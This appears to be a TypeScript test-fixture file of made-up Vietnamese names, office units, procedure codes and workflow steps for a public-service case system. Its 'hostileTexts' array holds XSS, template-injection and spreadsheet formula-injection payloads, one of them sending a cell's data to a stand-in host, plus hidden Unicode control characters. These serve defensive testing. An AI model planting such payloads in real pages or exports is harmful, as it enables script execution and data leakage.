/** Words the fictional data is made of. No person, number or address here is real. */

export const familyNames = [
  'Nguyễn',
  'Trần',
  'Lê',
  'Phạm',
  'Hoàng',
  'Huỳnh',
  'Phan',
  'Vũ',
  'Đặng',
  'Bùi',
  'Đỗ',
  'Dương',
]
export const middleNames = [
  'Văn',
  'Thị',
  'Quốc',
  'Minh',
  'Ngọc',
  'Thanh',
  'Đức',
  'Hoài',
  'Kim',
  'Gia',
  'Bảo',
  'Mỹ',
]
export const givenNames = [
  'An Nhiên',
  'Giả Định',
  'Thử Nghiệm',
  'Tưởng Tượng',
  'Phỏng Theo',
  'Diệu Huyền',
  'Khánh Ngân',
  'Phương Uyên',
  'Quỳnh Trâm',
  'Trường Giang',
  'Vĩnh Phúc',
  'Đăng Khôi',
]

export const longName =
  'Công ty Trách nhiệm hữu hạn Một thành viên Sản xuất Thương mại Dịch vụ Xuất nhập khẩu Vật liệu Xây dựng và Phát triển Nông nghiệp Công nghệ cao Ví Dụ Không Có Thật - Chi nhánh Vùng cao phía Bắc'

/** What citizens' own input may bring onto an officer's page (design: everything on the page is hostile). */
export const hostileTexts = [
  '<img src=x onerror="document.documentElement.dataset.pwned=1">',
  '<script>document.documentElement.dataset.pwned=1</script>',
  '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
  '"><svg onload=document.documentElement.dataset.pwned=1>',
  '\u202eđảo ngược chữ\u202c Lý Văn Ngược',
  '\u2067Kẹp\u2069 Thị \u200bVô Hình\ufeff',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '{{constructor.constructor("document.documentElement.dataset.pwned=1")()}}',
  'Hẹn trả: 01/01/2020 08:00, Mã hồ sơ H00.99.200101.9999',
  '-2+3+cmd & Đỗ Thị O\u0323\u0302 \u{1f600}\u{20000}',
]

/** The office's units, each with its fields, officers and procedures (codes in the national form). */
export const units = [
  {
    name: 'Phòng Tư pháp - Hộ tịch',
    field: 'Hộ tịch',
    officers: ['Tống Hải Đường', 'Mạc Thu Cúc', 'Kiều Nhật Thảo'],
    procedures: [
      { code: '1.004193', name: 'Cấp bản sao trích lục hộ tịch', subject: 'Cấp trích lục khai sinh cho' },
      { code: '1.001193', name: 'Đăng ký khai sinh', subject: 'Khai sinh cho cháu ngoại của' },
      { code: '2.000635', name: 'Cấp Giấy xác nhận tình trạng hôn nhân', subject: 'Xác nhận độc thân của' },
    ],
  },
  {
    name: 'Phòng Kinh tế, Hạ tầng và Đô thị',
    field: 'Xây dựng',
    officers: ['Lục Trọng Nghĩa', 'Thạch Cẩm Tú', 'Ông Ích Thiện'],
    procedures: [
      { code: '1.013239', name: 'Cấp giấy phép xây dựng nhà ở riêng lẻ', subject: 'Xin phép xây nhà của hộ' },
      {
        code: '1.009974',
        name: 'Cấp giấy phép xây dựng mới đối với công trình cấp III, cấp IV (công trình không theo tuyến, theo tuyến trong đô thị, tín ngưỡng, tôn giáo, tượng đài, tranh hoành tráng, theo giai đoạn) và nhà ở riêng lẻ',
        subject: 'Xây nhà kho của',
      },
    ],
  },
  {
    name: 'Chi nhánh Văn phòng Đăng ký đất đai',
    field: 'Đất đai',
    officers: ['Viên Hồng Sơn', 'Khúc Hạnh Dung', 'Ngân Tuấn Kiệt', 'Cù Thiên Lý'],
    procedures: [
      { code: '1.012817', name: 'Đăng ký biến động quyền sử dụng đất', subject: 'Tặng cho đất giữa con và' },
      {
        code: '1.012753',
        name: 'Đăng ký đất đai, cấp Giấy chứng nhận lần đầu',
        subject: 'Cấp sổ lần đầu cho',
      },
    ],
  },
  {
    name: 'Phòng Văn hóa - Xã hội',
    field: 'Bảo trợ xã hội',
    officers: ['Giang Mai Chi', 'Tiêu Quang Vinh'],
    procedures: [
      {
        code: '1.001776',
        name: 'Thực hiện trợ cấp xã hội hằng tháng',
        subject: 'Trợ cấp cho người cao tuổi',
      },
      {
        code: '2.000286',
        name: 'Tiếp nhận đối tượng bảo trợ xã hội',
        subject: 'Tiếp nhận vào cơ sở trợ giúp',
      },
    ],
  },
]

export const runningSteps = [
  'Tiếp nhận hồ sơ',
  'Phân công thụ lý',
  'Chuyên viên thụ lý',
  'Thẩm định hồ sơ',
  'Lấy ý kiến phối hợp',
  'Trình lãnh đạo phòng',
  'Lãnh đạo phê duyệt',
  'Văn thư phát hành',
]

/** The officer at the counter, whose account is signed in on both consoles. */
export const signedIn = 'Cao Thị Thùy Dương'
